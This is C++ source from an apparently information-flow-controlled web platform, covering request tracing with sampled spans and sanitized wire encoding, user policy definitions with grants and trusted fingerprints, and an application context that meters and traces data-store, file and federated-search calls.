    const auto t1 = steady_clock::now();
    c.epoch_micros =
        duration_cast<microseconds>(t0.time_since_epoch()).count();
    if (end_cycles > c.epoch_cycles) {
      c.micros_per_cycle =
          static_cast<double>(duration_cast<nanoseconds>(t1 - t0).count()) /
          1000.0 / static_cast<double>(end_cycles - c.epoch_cycles);
    }
    return c;
  }();
  return cal;
}

util::Micros cycles_to_micros(std::uint64_t cycles,
                              const TscCalibration& cal) {
  return cal.epoch_micros +
         static_cast<util::Micros>(
             static_cast<double>(cycles - cal.epoch_cycles) *
             cal.micros_per_cycle);
}

}  // namespace

std::string next_trace_id() {
  // Per-process salt so ids differ across restarts; the counter keeps
  // them unique within the process, the SplitMix64 finalizer keeps them
  // non-enumerable.
  static const std::uint64_t salt = static_cast<std::uint64_t>(
      std::chrono::steady_clock::now().time_since_epoch().count());
  static std::atomic<std::uint64_t> counter{0};
  std::uint64_t x =
      salt + 0x9e3779b97f4a7c15ULL *
                 (counter.fetch_add(1, std::memory_order_relaxed) + 1);
  x ^= x >> 30;
  x *= 0xbf58476d1ce4e5b9ULL;
  x ^= x >> 27;
  x *= 0x94d049bb133111ebULL;
  x ^= x >> 31;
  return to_hex12(x >> 16);  // top 48 bits of the mixed value
}

bool valid_trace_id(std::string_view id) {
  if (id.empty() || id.size() > 64) return false;
  for (const char c : id) {
    const bool ok = (c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') ||
                    (c >= 'A' && c <= 'Z') || c == '_' || c == '-';
    if (!ok) return false;
  }
  return true;
}

util::Json Trace::to_json() const {
  util::Json out;
  out["id"] = id;
  out["route"] = std::string(route);
  out["status"] = status;
  out["started_micros"] = started;
  out["duration_micros"] = duration;
  out["sampled"] = sampled;
  if (!parent_span.empty()) out["parent_span"] = parent_span;
  util::Json items = util::Json::array();
  for (const TraceSpan& span : spans) {
    util::Json entry;
    entry["name"] = span.name;
    entry["start_micros"] = span.start;
    entry["duration_micros"] = span.duration;
    entry["span_id"] = static_cast<std::int64_t>(span.id);
    entry["parent"] = static_cast<std::int64_t>(span.parent);
    if (!span.note.empty()) entry["note"] = span.note;
    if (!span.remote.empty()) entry["remote"] = span.remote;
    items.push_back(std::move(entry));
  }
  out["spans"] = std::move(items);
  return out;
}

TraceBuffer::TraceBuffer(std::size_t capacity)
    : capacity_(capacity == 0 ? 1 : capacity),
      slot_mutexes_(capacity_),
      ring_(capacity_) {
  // vector-of-Mutex is sized, not emplaced, so ranks arrive post-hoc —
  // before the buffer is shared, which is all set_rank() requires.
  for (auto& mu : slot_mutexes_)
    mu.set_rank(util::lockrank::kTraceSlot, "TraceBuffer::slot_mutexes_");
}

void TraceBuffer::record(Trace trace) {
  if (trace.id.empty()) return;
  // The fetch_add both counts the trace and claims its slot, so eviction
  // stays strictly FIFO and concurrent writers only contend when they
  // land on the same slot (capacity_ requests apart).
  const std::uint64_t seq =
      recorded_total_.fetch_add(1, std::memory_order_relaxed);
  const auto slot = static_cast<std::size_t>(seq % capacity_);
  {
    const util::MutexLock lock(slot_mutexes_[slot]);
    // Swap, don't assign: the evicted trace's strings and span vector
    // are then freed below, after the lock is released.
    std::swap(ring_[slot], trace);
  }
  // `trace` now holds the evicted entry: remember its id (so /trace/:id
  // can answer 204 rather than 404) and count its lost spans.
  if (trace.id.empty()) return;
  if (!trace.spans.empty())
    dropped_spans_.fetch_add(trace.spans.size(), std::memory_order_relaxed);
  {
    const util::MutexLock lock(evicted_mutex_);
    if (evicted_ids_.size() < kEvictedIds) {
      evicted_ids_.push_back(std::move(trace.id));
    } else {
      evicted_ids_[evicted_next_] = std::move(trace.id);
      evicted_next_ = (evicted_next_ + 1) % kEvictedIds;
    }
  }
}

std::optional<Trace> TraceBuffer::find(const std::string& id) const {
  if (id.empty()) return std::nullopt;  // never match an unused slot
  const std::uint64_t total =
      recorded_total_.load(std::memory_order_relaxed);
  const auto held =
      static_cast<std::size_t>(std::min<std::uint64_t>(total, capacity_));
  // Newest-first scan, one slot lock at a time.
  for (std::size_t i = 0; i < held; ++i) {
    const auto slot = static_cast<std::size_t>((total - 1 - i) % capacity_);
    const util::MutexLock lock(slot_mutexes_[slot]);
    if (ring_[slot].id == id) return ring_[slot];
  }
  return std::nullopt;
}

TraceBuffer::Lookup TraceBuffer::lookup(const std::string& id,
                                        Trace* out) const {
  if (auto found = find(id)) {
    if (out != nullptr) *out = std::move(*found);
    return Lookup::kFound;
  }
  const util::MutexLock lock(evicted_mutex_);
  for (const std::string& evicted : evicted_ids_)
    if (evicted == id) return Lookup::kEvicted;
  return Lookup::kUnknown;
}

bool TraceBuffer::append_spans(const std::string& id,
                               std::vector<TraceSpan> spans) {
  if (id.empty() || spans.empty()) return false;
  const std::uint64_t total =
      recorded_total_.load(std::memory_order_relaxed);
  const auto held =
      static_cast<std::size_t>(std::min<std::uint64_t>(total, capacity_));
  for (std::size_t i = 0; i < held; ++i) {
    const auto slot = static_cast<std::size_t>((total - 1 - i) % capacity_);
    const util::MutexLock lock(slot_mutexes_[slot]);
    if (ring_[slot].id != id) continue;
    Trace& trace = ring_[slot];
    // Unsampled traces intentionally carry no spans; late stage spans
    // for them are suppressed, not "lost" — the dropped counter stays
    // a slot-exhaustion signal.
    if (!trace.sampled) return false;
    std::size_t appended = 0;
    for (TraceSpan& span : spans) {
      if (trace.spans.size() >= kMaxSpansPerTrace) break;
      trace.spans.push_back(std::move(span));
      ++appended;
    }
    if (appended < spans.size())
      dropped_spans_.fetch_add(spans.size() - appended,
                               std::memory_order_relaxed);
    return true;
  }
  // The trace aged out (or was never recorded) before the late spans
  // arrived — they are lost to slot exhaustion.
  dropped_spans_.fetch_add(spans.size(), std::memory_order_relaxed);
  return false;
}

std::uint64_t TraceBuffer::dropped() const {
  return dropped_spans_.load(std::memory_order_relaxed);
}

std::size_t TraceBuffer::size() const {
  return static_cast<std::size_t>(
      std::min<std::uint64_t>(recorded(), capacity_));
}

std::uint64_t TraceBuffer::recorded() const {
  return recorded_total_.load(std::memory_order_relaxed);
}

RequestContext::RequestContext(std::string_view inherited_id,
                               Sampling sampling) {
#ifndef W5_NO_TELEMETRY
  // Per-thread sampling counter: same 1-in-N rate overall, no shared
  // cache line on the request path.
  thread_local std::uint64_t sample_counter = 0;
  if (valid_trace_id(inherited_id)) {
    trace_.id = std::string(inherited_id);
    inherited_ = true;
    spans_enabled_ = true;  // the caller asked for this trace by id
  } else {
    trace_.id = next_trace_id();
    spans_enabled_ = sample_counter++ % kSpanSampleEvery == 0;
  }
  // An explicit X-W5-Sampled overrides either default: an upstream that
  // chose not to sample propagates that choice down the whole chain.
  if (sampling == Sampling::kOn) spans_enabled_ = true;
  if (sampling == Sampling::kOff) spans_enabled_ = false;
  start_cycles_ = util::cycle_count();
  if (spans_enabled_)
    trace_.spans.reserve(8);  // one allocation up front, not one per span
  previous_ = t_current;
  t_current = this;
  installed_ = true;
  util::set_thread_trace_ref(&trace_.id);  // for the structured log sink
#else
  (void)inherited_id;
  (void)sampling;
#endif
}

RequestContext::~RequestContext() {
  if (installed_ && t_current == this) {
    t_current = previous_;
    util::set_thread_trace_ref(previous_ != nullptr ? &previous_->trace_.id
                                                    : nullptr);
  }
}

void RequestContext::set_route(std::string_view stable_route) {
  if (!installed_) return;
  trace_.route = stable_route;
}

void RequestContext::set_status(int status) {
  if (!installed_) return;
  trace_.status = status;
}

void RequestContext::set_parent_span(std::string parent) {
  if (!installed_) return;
  trace_.parent_span = std::move(parent);
}

void RequestContext::add_span(std::string_view name,
                              std::uint64_t start_cycles,
                              std::uint64_t duration_cycles,
                              std::string note, std::uint32_t span_id,
                              std::uint32_t parent) {
  if (!installed_ || !spans_enabled_) return;
  // Bounded: a pathological request (deep module composition, huge
  // query fan-out) must not grow a trace without limit.
  if (trace_.spans.size() >= kMaxSpans) return;
  // start/duration hold raw cycle values until finish() rescales them.
  trace_.spans.push_back(TraceSpan{std::string(name),
                                   static_cast<util::Micros>(start_cycles),
                                   static_cast<util::Micros>(duration_cycles),
                                   std::move(note), span_id, parent,
                                   /*remote=*/{}});
}

void RequestContext::add_remote_spans(std::vector<TraceSpan> spans,
                                      std::uint64_t hop_start_cycles) {
  if (!installed_ || !spans_enabled_) return;
  const std::uint32_t attach_parent = current_parent_;
  // Remap the peer's span ids into this request's ordinal space; remote
  // roots (parent 0, or a parent the wire never defined) hang under the
  // hop span that made the call.
  std::vector<std::pair<std::uint32_t, std::uint32_t>> id_map;
  id_map.reserve(spans.size());
  for (TraceSpan& span : spans) {
    const std::uint32_t fresh = open_span();
    if (span.id != 0) id_map.emplace_back(span.id, fresh);
    span.id = fresh;
  }
  for (TraceSpan& span : spans) {
    std::uint32_t mapped = attach_parent;
    for (const auto& [old_id, new_id] : id_map)
      if (span.parent != 0 && span.parent == old_id) {
        mapped = new_id;
        break;
      }
    span.parent = mapped;
    if (remote_spans_.size() >= kMaxSpans) break;
    remote_spans_.push_back(RemoteSpan{std::move(span), hop_start_cycles});
  }
}

Trace RequestContext::finish() {
  if (installed_) {
    const std::uint64_t end_cycles = util::cycle_count();
    const TscCalibration& cal = tsc_calibration();
    trace_.started = cycles_to_micros(start_cycles_, cal);
    trace_.duration =
        static_cast<util::Micros>(
            static_cast<double>(end_cycles - start_cycles_) *
            cal.micros_per_cycle);
    trace_.sampled = spans_enabled_;
    for (TraceSpan& span : trace_.spans) {
      span.start = cycles_to_micros(
          static_cast<std::uint64_t>(span.start), cal);
      span.duration = static_cast<util::Micros>(
          static_cast<double>(span.duration) * cal.micros_per_cycle);
    }
    // Remote spans already carry micros; rebase their offsets onto the
    // absolute start of the hop that fetched them. (The remote clock
    // starts a network hop later than ours — the skew is one-way latency,
    // small against the millisecond scale the tree is read at.)
    for (RemoteSpan& remote : remote_spans_) {
      TraceSpan span = std::move(remote.span);
      span.start += cycles_to_micros(remote.hop_start_cycles, cal);
      trace_.spans.push_back(std::move(span));
    }
    remote_spans_.clear();
  }
  return std::move(trace_);
}

void RequestContext::set_deadline(util::Micros absolute_micros) {
  if (!installed_) return;
  deadline_ = absolute_micros;
}

util::Micros RequestContext::current_deadline() {
  return t_current != nullptr ? t_current->deadline_ : 0;
}

util::Micros RequestContext::remaining_micros() {
  const util::Micros deadline = current_deadline();
  if (deadline == 0) return std::numeric_limits<util::Micros>::max();
  static const util::WallClock wall;
  return deadline - wall.now();
}

bool RequestContext::deadline_expired() {
  const util::Micros deadline = current_deadline();
  if (deadline == 0) return false;
  static const util::WallClock wall;
  return wall.now() >= deadline;
}

RequestContext* RequestContext::current() noexcept { return t_current; }

std::string RequestContext::current_id() {
  return t_current != nullptr ? t_current->id() : std::string{};
}

ScopedSpan::ScopedSpan(std::string_view name)
    : context_(RequestContext::current()), name_(name) {
  if (context_ != nullptr && !context_->spans_enabled()) context_ = nullptr;
  if (context_ != nullptr) {
    start_cycles_ = util::cycle_count();
    // Ids are handed out at open so this span's id exists before its
    // children record theirs (children destruct — and record — first).
    span_id_ = context_->open_span();
    parent_ = context_->current_parent();
    context_->set_current_parent(span_id_);
  }
}

ScopedSpan::ScopedSpan(std::string_view name, const std::string& note)
    : ScopedSpan(name) {
  if (context_ != nullptr) note_ = note;
}

ScopedSpan::~ScopedSpan() {
  if (context_ == nullptr) return;
  context_->set_current_parent(parent_);
  context_->add_span(name_, start_cycles_,
                     util::cycle_count() - start_cycles_, std::move(note_),
                     span_id_, parent_);
}

std::string sanitize_telemetry_token(std::string_view in,
                                     std::size_t max_len) {
  std::string out;
  out.reserve(std::min(in.size(), max_len));
  for (const char c : in) {
    if (out.size() >= max_len) break;
    const bool ok = (c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') ||
                    (c >= 'A' && c <= 'Z') || c == '.' || c == '_' ||
                    c == '/' || c == '=' || c == '-';
    out.push_back(ok ? c : '_');
  }
  return out;
}

namespace {

constexpr std::size_t kWireMaxSpans = 32;
constexpr std::size_t kWireMaxBytes = 4000;  // inside ParserLimits lines

// Parses a non-negative decimal; false on empty/overflow/junk.
bool parse_u64(std::string_view text, std::uint64_t* out) {
  if (text.empty() || text.size() > 19) return false;
  std::uint64_t value = 0;
  for (const char c : text) {
    if (c < '0' || c > '9') return false;
    value = value * 10 + static_cast<std::uint64_t>(c - '0');
  }
  *out = value;
  return true;
}

}  // namespace

std::string encode_spans_for_wire(const Trace& trace) {
  if (!trace.sampled || trace.spans.empty()) return {};
  std::string out;
  std::size_t emitted = 0;
  for (const TraceSpan& span : trace.spans) {
    if (emitted >= kWireMaxSpans) break;
    std::string entry;
    const util::Micros offset =
        span.start > trace.started ? span.start - trace.started : 0;
    entry += std::to_string(span.id);
    entry += ';';
    entry += std::to_string(span.parent);
    entry += ';';
    entry += std::to_string(offset);
    entry += ';';
    entry += std::to_string(span.duration < 0 ? 0 : span.duration);
    entry += ';';
    entry += sanitize_telemetry_token(span.name, 48);
    entry += ';';
    entry += sanitize_telemetry_token(span.note, 80);
    entry += ';';
    entry += sanitize_telemetry_token(span.remote, 48);
    if (out.size() + entry.size() + 1 > kWireMaxBytes) break;
    if (!out.empty()) out += '|';
    out += entry;
    ++emitted;
  }
  return out;
}

std::vector<TraceSpan> decode_remote_spans(std::string_view wire,
                                           std::string_view peer) {
  std::vector<TraceSpan> spans;
  if (wire.empty() || wire.size() > kWireMaxBytes) return spans;
  std::size_t pos = 0;
  while (pos <= wire.size() && spans.size() < kWireMaxSpans) {
    const std::size_t bar = wire.find('|', pos);
    const std::string_view entry =
        wire.substr(pos, bar == std::string_view::npos ? bar : bar - pos);
    pos = bar == std::string_view::npos ? wire.size() + 1 : bar + 1;
    // Split on ';' into exactly 7 fields; skip malformed entries.
    std::string_view fields[7];
    std::size_t count = 0;
    std::size_t field_pos = 0;
    while (count < 7) {
      const std::size_t semi = entry.find(';', field_pos);
      if (semi == std::string_view::npos) {
        fields[count++] = entry.substr(field_pos);
        break;
      }
      fields[count++] = entry.substr(field_pos, semi - field_pos);
      field_pos = semi + 1;
    }
    if (count != 7) continue;
    std::uint64_t id = 0, parent = 0, offset = 0, duration = 0;
    if (!parse_u64(fields[0], &id) || !parse_u64(fields[1], &parent) ||
        !parse_u64(fields[2], &offset) || !parse_u64(fields[3], &duration))
      continue;
    if (id == 0 || id > 0xFFFFFFFFULL || parent > 0xFFFFFFFFULL) continue;
    TraceSpan span;
    span.id = static_cast<std::uint32_t>(id);
    span.parent = static_cast<std::uint32_t>(parent);
    span.start = static_cast<util::Micros>(offset);  // offset until rebased
    span.duration = static_cast<util::Micros>(duration);
    span.name = sanitize_telemetry_token(fields[4], 48);
    span.note = sanitize_telemetry_token(fields[5], 80);
    // remote: the peer-reported origin for multi-hop chains, else the
    // direct peer — always re-sanitized, never trusted bytes.
    span.remote = fields[6].empty() ? sanitize_telemetry_token(peer, 48)
                                    : sanitize_telemetry_token(fields[6], 48);
    if (span.name.empty()) continue;
    spans.push_back(std::move(span));
  }
  return spans;
}

}  // namespace w5::platform
