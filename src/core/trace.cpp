#include "core/trace.h"

#include <algorithm>
#include <atomic>
#include <chrono>
#include <limits>

#include "util/log.h"

namespace w5::platform {

namespace {

thread_local RequestContext* t_current = nullptr;

// 12 hex chars: short enough that libstdc++/libc++ SSO holds every copy
// of the id (context, thread-local, response header, audit stamp) without
// touching the heap.
std::string to_hex12(std::uint64_t v) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out(12, '0');
  for (int i = 11; i >= 0; --i) {
    out[static_cast<std::size_t>(i)] = kDigits[v & 0xF];
    v >>= 4;
  }
  return out;
}

// TSC → micros calibration, measured once at first use (~1ms spin).
// epoch_micros is on the steady-clock epoch — the same one WallClock
// reports — so trace timestamps line up with WallClock audit times.
struct TscCalibration {
  std::uint64_t epoch_cycles = 0;
  util::Micros epoch_micros = 0;
  double micros_per_cycle = 0.0;
};

const TscCalibration& tsc_calibration() {
  static const TscCalibration cal = [] {
    using namespace std::chrono;
    TscCalibration c;
    const auto t0 = steady_clock::now();
    c.epoch_cycles = util::cycle_count();
    while (steady_clock::now() - t0 < microseconds(1000)) {
    }
    const std::uint64_t end_cycles = util::cycle_count();
    const auto t1 = steady_clock::now();
    c.epoch_micros =
        duration_cast<microseconds>(t0.time_since_epoch()).count();
    if (end_cycles > c.epoch_cycles) {
      c.micros_per_cycle =
          static_cast<double>(duration_cast<nanoseconds>(t1 - t0).count()) /
          1000.0 / static_cast<double>(end_cycles - c.epoch_cycles);
    }
    return c;
  }();
  return cal;
}

util::Micros cycles_to_micros(std::uint64_t cycles,
                              const TscCalibration& cal) {
  return cal.epoch_micros +
         static_cast<util::Micros>(
             static_cast<double>(cycles - cal.epoch_cycles) *
             cal.micros_per_cycle);
}

}  // namespace

std::string next_trace_id() {
  // Per-process salt so ids differ across restarts; the counter keeps
  // them unique within the process, the SplitMix64 finalizer keeps them
  // non-enumerable.
  static const std::uint64_t salt = static_cast<std::uint64_t>(
      std::chrono::steady_clock::now().time_since_epoch().count());
  static std::atomic<std::uint64_t> counter{0};
  std::uint64_t x =
      salt + 0x9e3779b97f4a7c15ULL *
                 (counter.fetch_add(1, std::memory_order_relaxed) + 1);
  x ^= x >> 30;
  x *= 0xbf58476d1ce4e5b9ULL;
  x ^= x >> 27;
  x *= 0x94d049bb133111ebULL;
  x ^= x >> 31;
  return to_hex12(x >> 16);  // top 48 bits of the mixed value
}

bool valid_trace_id(std::string_view id) {
  if (id.empty() || id.size() > 64) return false;
  for (const char c : id) {
    const bool ok = (c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') ||
                    (c >= 'A' && c <= 'Z') || c == '_' || c == '-';
    if (!ok) return false;
  }
  return true;
}

util::Json Trace::to_json() const {
  util::Json out;
  out["id"] = id;
  out["route"] = std::string(route);
  out["status"] = status;
  out["started_micros"] = started;
  out["duration_micros"] = duration;
  util::Json items = util::Json::array();
  for (const TraceSpan& span : spans) {
    util::Json entry;
    entry["name"] = std::string(span.name);
    entry["start_micros"] = span.start;
    entry["duration_micros"] = span.duration;
    if (!span.note.empty()) entry["note"] = span.note;
    items.push_back(std::move(entry));
  }
  out["spans"] = std::move(items);
  return out;
}

TraceBuffer::TraceBuffer(std::size_t capacity)
    : capacity_(capacity == 0 ? 1 : capacity),
      slot_mutexes_(capacity_),
      ring_(capacity_) {}

void TraceBuffer::record(Trace trace) {
  if (trace.id.empty()) return;
  // The fetch_add both counts the trace and claims its slot, so eviction
  // stays strictly FIFO and concurrent writers only contend when they
  // land on the same slot (capacity_ requests apart).
  const std::uint64_t seq =
      recorded_total_.fetch_add(1, std::memory_order_relaxed);
  const auto slot = static_cast<std::size_t>(seq % capacity_);
  {
    const util::MutexLock lock(slot_mutexes_[slot]);
    // Swap, don't assign: the evicted trace's strings and span vector
    // are then freed below, after the lock is released.
    std::swap(ring_[slot], trace);
  }
}

std::optional<Trace> TraceBuffer::find(const std::string& id) const {
  if (id.empty()) return std::nullopt;  // never match an unused slot
  const std::uint64_t total =
      recorded_total_.load(std::memory_order_relaxed);
  const auto held =
      static_cast<std::size_t>(std::min<std::uint64_t>(total, capacity_));
  // Newest-first scan, one slot lock at a time.
  for (std::size_t i = 0; i < held; ++i) {
    const auto slot = static_cast<std::size_t>((total - 1 - i) % capacity_);
    const util::MutexLock lock(slot_mutexes_[slot]);
    if (ring_[slot].id == id) return ring_[slot];
  }
  return std::nullopt;
}

std::size_t TraceBuffer::size() const {
  return static_cast<std::size_t>(
      std::min<std::uint64_t>(recorded(), capacity_));
}

std::uint64_t TraceBuffer::recorded() const {
  return recorded_total_.load(std::memory_order_relaxed);
}

RequestContext::RequestContext(std::string_view inherited_id) {
#ifndef W5_NO_TELEMETRY
  // Per-thread sampling counter: same 1-in-N rate overall, no shared
  // cache line on the request path.
  thread_local std::uint64_t sample_counter = 0;
  if (valid_trace_id(inherited_id)) {
    trace_.id = std::string(inherited_id);
    spans_enabled_ = true;  // the caller asked for this trace by id
  } else {
    trace_.id = next_trace_id();
    spans_enabled_ = sample_counter++ % kSpanSampleEvery == 0;
  }
  start_cycles_ = util::cycle_count();
  if (spans_enabled_)
    trace_.spans.reserve(8);  // one allocation up front, not one per span
  previous_ = t_current;
  t_current = this;
  installed_ = true;
  util::set_thread_trace_ref(&trace_.id);  // for the structured log sink
#else
  (void)inherited_id;
#endif
}

RequestContext::~RequestContext() {
  if (installed_ && t_current == this) {
    t_current = previous_;
    util::set_thread_trace_ref(previous_ != nullptr ? &previous_->trace_.id
                                                    : nullptr);
  }
}

void RequestContext::set_route(std::string_view stable_route) {
  if (!installed_) return;
  trace_.route = stable_route;
}

void RequestContext::set_status(int status) {
  if (!installed_) return;
  trace_.status = status;
}

void RequestContext::add_span(std::string_view name,
                              std::uint64_t start_cycles,
                              std::uint64_t duration_cycles,
                              std::string note) {
  if (!installed_ || !spans_enabled_) return;
  // Bounded: a pathological request (deep module composition, huge
  // query fan-out) must not grow a trace without limit.
  if (trace_.spans.size() >= kMaxSpans) return;
  // start/duration hold raw cycle values until finish() rescales them.
  trace_.spans.push_back(TraceSpan{name,
                                   static_cast<util::Micros>(start_cycles),
                                   static_cast<util::Micros>(duration_cycles),
                                   std::move(note)});
}

Trace RequestContext::finish() {
  if (installed_) {
    const std::uint64_t end_cycles = util::cycle_count();
    const TscCalibration& cal = tsc_calibration();
    trace_.started = cycles_to_micros(start_cycles_, cal);
    trace_.duration =
        static_cast<util::Micros>(
            static_cast<double>(end_cycles - start_cycles_) *
            cal.micros_per_cycle);
    for (TraceSpan& span : trace_.spans) {
      span.start = cycles_to_micros(
          static_cast<std::uint64_t>(span.start), cal);
      span.duration = static_cast<util::Micros>(
          static_cast<double>(span.duration) * cal.micros_per_cycle);
    }
  }
  return std::move(trace_);
}

void RequestContext::set_deadline(util::Micros absolute_micros) {
  if (!installed_) return;
  deadline_ = absolute_micros;
}

util::Micros RequestContext::current_deadline() {
  return t_current != nullptr ? t_current->deadline_ : 0;
}

util::Micros RequestContext::remaining_micros() {
  const util::Micros deadline = current_deadline();
  if (deadline == 0) return std::numeric_limits<util::Micros>::max();
  static const util::WallClock wall;
  return deadline - wall.now();
}

bool RequestContext::deadline_expired() {
  const util::Micros deadline = current_deadline();
  if (deadline == 0) return false;
  static const util::WallClock wall;
  return wall.now() >= deadline;
}

RequestContext* RequestContext::current() noexcept { return t_current; }

std::string RequestContext::current_id() {
  return t_current != nullptr ? t_current->id() : std::string{};
}

ScopedSpan::ScopedSpan(std::string_view name)
    : context_(RequestContext::current()), name_(name) {
  if (context_ != nullptr && !context_->spans_enabled()) context_ = nullptr;
  if (context_ != nullptr) start_cycles_ = util::cycle_count();
}

ScopedSpan::ScopedSpan(std::string_view name, const std::string& note)
    : ScopedSpan(name) {
  if (context_ != nullptr) note_ = note;
}

ScopedSpan::~ScopedSpan() {
  if (context_ == nullptr) return;
  context_->add_span(name_, start_cycles_,
                     util::cycle_count() - start_cycles_, std::move(note_));
}

}  // namespace w5::platform
