// User policies: the control surface the paper promises users (§1 "users
// would be able to express idiosyncratic policies and ... attach these
// policies to their data so that the policies applied across
// applications").
//
// A policy names *which declassifier* guards the user's secrecy tag and
// *which modules* the user has delegated write / read-protected-read
// privilege to. Policies are plain data configured "via front-ends like
// Web forms" (§2) — the gateway exposes GET/POST /policy as JSON.
#pragma once

#include <map>
#include <shared_mutex>
#include <string>
#include <vector>

#include "util/json.h"
#include "util/mutation_log.h"
#include "util/result.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::platform {

struct UserPolicy {
  // Declassifier id (in the DeclassifierRegistry) guarding sec(u).
  // The provider default is the paper's boilerplate policy.
  std::string secrecy_declassifier = "std/owner-only";

  // Module *paths* ("devA/crop") the user lets write their data: requests
  // those modules serve for this user run endorsed with wp(u).
  std::vector<std::string> write_grants;

  // Module paths allowed to read rp(u)-protected data.
  std::vector<std::string> read_grants;

  // Collections whose records additionally carry rp(u) on create.
  std::vector<std::string> private_collections;

  // Pinned module versions: path -> version ("I want version X.Y", §2).
  std::map<std::string, std::string> version_pins;

  // Integrity protection (§3.1): when non-empty, a module acts on this
  // user's behalf (receives write/read grants) only if its own
  // fingerprint AND every imported component's fingerprint appear here —
  // "only if all of its components (such as its libraries and
  // configuration files) are meritorious". Fingerprints come from code
  // audits (GET /apps lists them).
  std::vector<std::string> trusted_fingerprints;

  bool grants_write(const std::string& module_path) const;
  bool grants_read(const std::string& module_path) const;
  bool is_private_collection(const std::string& collection) const;

  util::Json to_json() const;
  static util::Result<UserPolicy> from_json(const util::Json& j);
};

// Thread-safe: read-mostly map under a shared_mutex. get() returns a
// copy — a reference could dangle across a concurrent set() on the same
// user (map nodes are stable, but the value itself is overwritten).
class PolicyStore {
 public:
  // Returns the stored policy or the default.
  UserPolicy get(const std::string& user_id) const;
  void set(const std::string& user_id, UserPolicy policy);

  util::Json to_json() const;
  util::Status load_json(const util::Json& snapshot);

  // ---- Durability (DESIGN.md §13) -------------------------------------------
  // set() is already the trusted control plane (the gateway authenticates
  // before calling); with a log attached it publishes policy.set with the
  // full policy document.
  void set_mutation_log(util::MutationLog* log) { mutation_log_ = log; }
  util::Status apply_wal(const util::Json& op);  // TRUSTED replay apply

 private:
  mutable util::SharedMutex mutex_{util::lockrank::kPolicyStore,
                                    "PolicyStore::mutex_"};
  UserPolicy default_policy_ W5_GUARDED_BY(mutex_);
  std::map<std::string, UserPolicy> policies_ W5_GUARDED_BY(mutex_);
  util::MutationLog* mutation_log_ = nullptr;  // set once at wiring time
};

}  // namespace w5::platform
