#include "core/app_context.h"

#include "core/audit.h"
#include "core/gateway.h"
#include "core/provider.h"
#include "core/trace.h"

namespace w5::platform {

AppContext::AppContext(Provider& provider, os::Pid pid, const Module& module,
                       std::string viewer, const net::HttpRequest& request,
                       net::RouteParams params)
    : provider_(provider),
      pid_(pid),
      module_(module),
      viewer_(std::move(viewer)),
      request_(request),
      params_(std::move(params)) {}

std::string AppContext::param(const std::string& name,
                              const std::string& fallback) const {
  const auto it = params_.find(name);
  return it == params_.end() ? fallback : it->second;
}

std::string AppContext::query_param(const std::string& name,
                                    const std::string& fallback) const {
  return net::query_get(request_.parsed.query, name).value_or(fallback);
}

// Store spans carry no note: collection names and record ids are
// app-controlled strings, and a malicious module must not be able to
// smuggle record bytes into a trace through them (DESIGN.md §11 — spans
// record *what kind* of operation ran and how long, nothing the app
// chose).

util::Result<store::Record> AppContext::get_record(
    const std::string& collection, const std::string& id) {
  if (auto charged = charge(os::Resource::kCpu, 1); !charged.ok())
    return charged.error();
  ScopedSpan span("store.get");
  return provider_.store().get(pid_, collection, id, store::Raise::kYes);
}

util::Result<std::vector<store::Record>> AppContext::query(
    const std::string& collection, const store::QueryOptions& options) {
  if (auto charged = charge(os::Resource::kCpu, 1); !charged.ok())
    return charged.error();
  ScopedSpan span("store.query");
  store::QueryOptions metered = options;
  metered.principal = module_.id();
  return provider_.store().query(pid_, collection, metered,
                                 store::Raise::kYes);
}

util::Result<store::QueryPage> AppContext::query_page(
    const std::string& collection, const store::QueryOptions& options) {
  if (auto charged = charge(os::Resource::kCpu, 1); !charged.ok())
    return charged.error();
  ScopedSpan span("store.query");
  store::QueryOptions metered = options;
  metered.principal = module_.id();
  return provider_.store().query_page(pid_, collection, metered,
                                      store::Raise::kYes);
}

util::Result<std::size_t> AppContext::count(
    const std::string& collection, const store::QueryOptions& options) {
  if (auto charged = charge(os::Resource::kCpu, 1); !charged.ok())
    return charged.error();
  ScopedSpan span("store.count");
  store::QueryOptions metered = options;
  metered.principal = module_.id();
  return provider_.store().count(pid_, collection, metered);
}

util::Status AppContext::put_record(store::Record record) {
  if (auto charged = charge(os::Resource::kCpu, 1); !charged.ok())
    return charged;
  ScopedSpan span("store.put");
  return provider_.store().put(pid_, std::move(record));
}

util::Status AppContext::remove_record(const std::string& collection,
                                       const std::string& id) {
  if (auto charged = charge(os::Resource::kCpu, 1); !charged.ok())
    return charged;
  ScopedSpan span("store.remove");
  return provider_.store().remove(pid_, collection, id);
}

util::Result<store::Record> AppContext::make_user_record(
    const std::string& owner, const std::string& collection,
    const std::string& id, util::Json data) const {
  const UserAccount* account = provider_.users().find(owner);
  if (account == nullptr)
    return util::make_error("user.not_found", "no such user '" + owner + "'");
  store::Record record;
  record.collection = collection;
  record.id = id;
  record.owner = owner;
  record.data = std::move(data);
  difc::Label secrecy{account->secrecy_tag};
  if (provider_.policies().get(owner).is_private_collection(collection))
    secrecy = secrecy.with(account->read_tag);
  record.labels = difc::ObjectLabels{secrecy, difc::Label{account->write_tag}};
  return record;
}

util::Result<std::string> AppContext::read_file(const std::string& path) {
  if (auto charged = charge(os::Resource::kCpu, 1); !charged.ok())
    return charged.error();
  return provider_.fs().read(pid_, path, os::AutoRaise::kYes);
}

util::Status AppContext::write_file(const std::string& path,
                                    std::string content) {
  if (auto charged = charge(os::Resource::kCpu, 1); !charged.ok())
    return charged;
  return provider_.fs().write(pid_, path, std::move(content));
}

util::Status AppContext::create_file(const std::string& path,
                                     const difc::ObjectLabels& labels,
                                     std::string content) {
  if (auto charged = charge(os::Resource::kCpu, 1); !charged.ok())
    return charged;
  return provider_.fs().create(pid_, path, labels, std::move(content));
}

difc::Label AppContext::current_secrecy() const {
  const os::Process* process = provider_.kernel().find(pid_);
  return process != nullptr ? process->labels.secrecy() : difc::Label{};
}

util::Result<FederatedPage> AppContext::federated_search(
    FederatedQuery query) {
  if (auto charged = charge(os::Resource::kCpu, 1); !charged.ok())
    return charged.error();
  const FederatedSearchFn& search = provider_.federated_search();
  if (!search) {
    return util::make_error("fed.not_configured",
                            "this provider does not federate");
  }
  ScopedSpan span("fed.search");
  // The §3.5 budget meters the module whatever principal the app claims,
  // same stamp as every other scan; the viewer identity still decides
  // the consent-gated fan-out set inside the seam.
  query.principal = module_.id();
  return search(pid_, viewer_, query);
}

